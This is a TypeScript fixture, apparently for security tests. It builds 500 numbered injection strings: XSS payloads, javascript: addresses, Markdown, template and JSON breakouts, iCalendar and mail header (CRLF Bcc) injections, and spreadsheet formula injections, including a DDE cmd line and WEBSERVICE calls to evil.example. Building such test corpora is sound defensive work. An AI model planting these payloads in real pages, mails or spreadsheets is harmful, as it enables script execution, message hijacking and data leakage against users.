/**
 * Texts by which somebody would try to run a script in another's browser, to write a line of their own into a mail or a
 * calendar, or a formula into a table. Always the same ones, each with a number, so that a failure names its text.
 *
 *     elements × what breaks out before them × how they are written    <img>, <svg>, …  "> </script> -->  &lt; %3c
 *     attributes, addresses, Markdown, templates × how they are written
 *     lines of JSON, iCalendar, mail headers; formulas
 *
 * A text that succeeds in a browser calls `__ran(number)`, or asks `evil.example` for something.
 */
export interface Injection {
	number: number;
	/** What it aims at. */
	aim: Aim;
	text: string;
}
export type Aim =
	| 'element'
	| 'attribute'
	| 'address'
	| 'markdown'
	| 'template'
	| 'json'
	| 'calendar'
	| 'mail'
	| 'formula';

/** So many are made. */
export const INJECTIONS_MADE = 500;

/** The name of the function that a text calls when it runs. */
export const RAN = '__ran';

/** Whom a text asks for something when it loads. */
export const ELSEWHERE = 'evil.example';

/** `RUN` is put in its place last, so that what is written in another way still calls by its number. */
const RUN = 'RUN';

const ELEMENTS = [
	'<script>RUN</script>',
	'<script src=//evil.example/RUN></script>',
	'<script type=module>RUN</script>',
	'<img src=x onerror=RUN>',
	'<img src=//evil.example/RUN.png>',
	'<svg onload=RUN>',
	'<svg><script>RUN</script></svg>',
	'<svg><animate onbegin=RUN attributeName=x dur=1s>',
	'<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>',
	'<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>',
	'<math><mtext><mglyph><style><img src=x onerror=RUN>',
	'<iframe src=javascript:RUN></iframe>',
	'<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
	'<details open ontoggle=RUN>x</details>',
	'<input autofocus onfocus=RUN>',
	'<textarea autofocus onfocus=RUN></textarea>',
	'<video src=x onerror=RUN></video>',
	'<video><source onerror=RUN></video>',
	'<audio src=x onerror=RUN></audio>',
	'<body onload=RUN>',
	'<object data=javascript:RUN></object>',
	'<embed src=javascript:RUN>',
	'<link rel=stylesheet href=//evil.example/RUN.css>',
	'<style>@import "//evil.example/RUN.css"</style>',
	'<style>*{background:url(//evil.example/RUN)}</style>',
	'<meta http-equiv=refresh content="0;url=javascript:RUN">',
	'<base href=//evil.example/>',
	'<form action=javascript:RUN><button autofocus>x</button></form>',
	'<marquee onstart=RUN>x</marquee>',
	'<a href=javascript:RUN>x</a>',
	'<div style="animation:x" onanimationstart=RUN>x</div>',
	'<template shadowrootmode=open><script>RUN</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=RUN>">',
	'<x onclick=RUN tabindex=1 autofocus onfocus=RUN>x</x>',
];

/** What ends the place in which a text may stand. */
const BEFORE = [
	'',
	'">',
	"'>",
	'</script>',
	'</title>',
	'</textarea>',
	'</style>',
	'-->',
	']]>',
	'</svg>',
	'</noscript>',
	'</template>',
];

const ATTRIBUTES = [
	'" onmouseover=RUN x="',
	"' onmouseover=RUN x='",
	'" autofocus onfocus=RUN x="',
	"' autofocus tabindex=1 onfocus=RUN x='",
	'x onerror=RUN',
	'` onmouseover=RUN `',
	'"style="background:url(//evil.example/RUN)',
	'" srcdoc="<script>RUN</script>',
	'" href="javascript:RUN" x="',
	'&quot; onmouseover=RUN x=&quot;',
	'&#34;&#62;<img src=x onerror=RUN>',
];

const ADDRESSES = [
	'javascript:RUN',
	'JaVaScRiPt:RUN',
	' javascript:RUN',
	'java\tscript:RUN',
	'java\nscript:RUN',
	'\u0001javascript:RUN',
	'javascript&colon;RUN',
	'&#106;avascript:RUN',
	'&#x6A;&#x61;vascript:RUN',
	'javascript://x%0aRUN',
	'data:text/html,<script>RUN</script>',
	'data:image/svg+xml,<svg onload=RUN>',
	'vbscript:RUN',
	'//evil.example/RUN',
	'https://evil.example/RUN"onmouseover="RUN',
	'https://x@evil.example/RUN',
	'https://evil.example\\@x/RUN',
	'blob:https://evil.example/RUN',
];

const MARKDOWN = [
	'[x](javascript:RUN)',
	'[x](JAVASCRIPT:RUN)',
	'[x](java\nscript:RUN)',
	'[x](<javascript:RUN>)',
	'[x](javascript&colon;RUN)',
	'[x](data:text/html,<script>RUN</script>)',
	'[x](https://x.example "onmouseover=RUN")',
	'[x](https://x.example" onmouseover="RUN)',
	'[x]: javascript:RUN\n\n[x]',
	'![x](javascript:RUN)',
	'![x](https://evil.example/RUN.png)',
	'![x" onerror="RUN](x)',
	'![x](x"onerror="RUN)',
	'<javascript:RUN>',
	'<https://evil.example/" onmouseover="RUN>',
	'`<img src=x onerror=RUN>`',
	'```"><script>RUN</script>\nx\n```',
	'# <img src=x onerror=RUN>',
	'* <svg onload=RUN>',
	'> <script>RUN</script>',
	'**<b onmouseover=RUN>x**',
	'[<img src=x onerror=RUN>](https://x.example)',
	'| <img src=x onerror=RUN> |\n| --- |',
	'[x](//evil.example/RUN)',
	'&lt;script&gt;RUN&lt;/script&gt;',
	'<!--\n--><script>RUN</script>',
	'[a]: data:text/html,RUN "><img src=x onerror=RUN>',
];

const TEMPLATES = [
	'{{constructor.constructor("RUN")()}}',
	'${RUN}',
	'#{RUN}',
	'<%= RUN %>',
	'{@html "<script>RUN</script>"}',
	'{#if RUN}x{/if}',
	'__proto__',
	"');RUN;//",
	'";RUN;//',
	'\\";RUN;//',
	"'-RUN-'",
	"'; drop table places; -- RUN",
];

const JSON_TEXTS = [
	'</script><script>RUN</script>',
	'<!--<script>',
	'","@type":"Person","name":"RUN',
	'"}]}</script><img src=x onerror=RUN>',
	'\\u003c/script>\\u003cscript>RUN</script>',
	'\u2028RUN\u2029',
	'\\',
	'"',
	'</ScRiPt ><svg onload=RUN>',
	'{"__proto__":{"x":"RUN"}}',
];

const CALENDAR = [
	'x\r\nATTENDEE:mailto:x@evil.example',
	'x\nATTENDEE:mailto:x@evil.example',
	'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:RUN',
	'x\nEND:VCALENDAR',
	'x\r\n ATTACH:https://evil.example/RUN',
	'x\\nATTACH:https://evil.example/RUN',
	'";VALUE=URI:https://evil.example/RUN',
	'x;X-A=1:RUN',
	'x\rURL:javascript:RUN',
	'x\u0085ATTACH:https://evil.example/RUN',
	'x\u2028BEGIN:VALARM',
	"^n^'x",
	'\\;\\,\\\\n\\',
];

const MAIL = [
	'x\r\nBcc: x@evil.example',
	'x\nBcc: x@evil.example',
	'x\rBcc: x@evil.example',
	'x\r\n\r\n<script>RUN</script>',
	'x\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=RUN>',
	'x%0d%0aBcc: x@evil.example',
	'=?utf-8?Q?=0D=0ABcc:_x@evil.example?=',
	'=?utf-8?B?PHNjcmlwdD4=?=',
	'"<x@evil.example>, "',
	'x@evil.example, y@evil.example',
	'x\u2028Bcc: x@evil.example',
	'\r\n.\r\nMAIL FROM:<x@evil.example>',
];

const FORMULAS = [
	'=1+1',
	'=HYPERLINK("https://evil.example/RUN","x")',
	"=cmd|' /C calc'!A0",
	'=WEBSERVICE("https://evil.example/RUN")',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'"=1+1"',
	'x","=1+1',
	'x\n=1+1',
	';=1+1;',
	'=IMPORTXML("https://evil.example/RUN","//x")',
];

/** How else the same is written, in the hope that somebody reads it back. */
const WRITINGS: ((text: string) => string)[] = [
	(text) => text,
	(text) =>
		text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
	(text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
	(text) => text.replaceAll('&', '&amp;').replaceAll('<', '&amp;lt;'),
	(text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e'),
	(text) => text.replaceAll('<', '%3c').replaceAll('>', '%3e').replaceAll('"', '%22'),
	(text) => text.replaceAll('<', '\\u003c').replaceAll('"', '\\"'),
	(text) => text.replaceAll('<', '\\x3c'),
	(text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
	(text) => text.replaceAll('<', '<<').replaceAll('>', '>>'),
	(text) => text.replaceAll(' ', '/'),
	(text) => text.replaceAll(' ', '\n'),
	(text) => text.replaceAll('=', ' = '),
	(text) => text.replaceAll('>', ''),
	(text) => text.replaceAll('script', 'scr<!-- -->ipt'),
	(text) => text.replaceAll('script', 'scrscriptipt'),
	(text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
	(text) => `<!--${text}-->`,
	(text) => `<![CDATA[${text}]]>`,
];

/** All of them, in the same order each time. */
export function makeInjections(): Injection[] {
	const made: { aim: Aim; text: string }[] = [
		...each('markdown', MARKDOWN),
		...each('attribute', ATTRIBUTES),
		...each('address', ADDRESSES),
		...each('template', TEMPLATES),
		...each('json', JSON_TEXTS),
		...each('calendar', CALENDAR),
		...each('mail', MAIL),
		...each('formula', FORMULAS),
		...each('element', ELEMENTS),
		// all with all would be thousands: each round pairs them otherwise
		...WRITINGS.slice(1).flatMap((write, round) =>
			[
				...each('markdown', MARKDOWN),
				...each('address', ADDRESSES),
				...each('attribute', ATTRIBUTES),
			]
				.filter((_, number) => (number + round) % 5 === 0)
				.map(({ aim, text }) => ({ aim, text: write(text) })),
		),
		...BEFORE.flatMap((_, round) =>
			each('element', ELEMENTS, (text, number) => {
				const before = BEFORE[(number + round) % BEFORE.length]!;
				return WRITINGS[(number + 7 * round) % WRITINGS.length]!(before + text);
			}),
		),
	];
	const texts = new Set<string>();
	return made
		.filter(({ text }) => !texts.has(text) && texts.add(text))
		.slice(0, INJECTIONS_MADE)
		.map(({ aim, text }, number) => ({
			number,
			aim,
			text: text.replaceAll(new RegExp(RUN, 'gi'), `${RAN}(${number})`),
		}));
}

const each = (
	aim: Aim,
	texts: string[],
	write: (text: string, number: number) => string = (text) => text,
) => texts.map((text, number) => ({ aim, text: write(text, number) }));

/**
 * A text as a field takes it that refuses control characters, or a second line, or more than so many characters: the
 * door says no to those, and nothing would be tried behind it.
 */
export function fitting(text: string, { longest = Infinity, lines = true } = {}): string {
	// eslint-disable-next-line no-control-regex -- those are what is refused
	const allowed = text.replace(/\r\n?/g, '\n').replace(/[\x00-\x08\x0B-\x1F\x7F]/g, '');
	return (lines ? allowed : allowed.replace(/[\n\t]/g, ' ')).slice(0, longest);
}
